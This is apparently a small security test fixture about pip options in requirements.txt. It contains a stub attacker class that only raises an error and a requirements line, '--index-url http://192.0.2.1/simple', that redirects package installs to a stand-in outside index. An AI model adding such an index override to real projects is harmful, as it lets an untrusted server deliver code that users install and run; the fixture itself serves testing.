# Options in requirements.txt
# tries: the line --index-url http://192.0.2.1/simple
# idea: pip options
# verdict: plays
# means: upload-check
# refusal: requirements

class SimplePlayer(Attacker):
    def attack(self):
        raise RuntimeError("it was never to be played")

# --- requirements.txt
--index-url http://192.0.2.1/simple
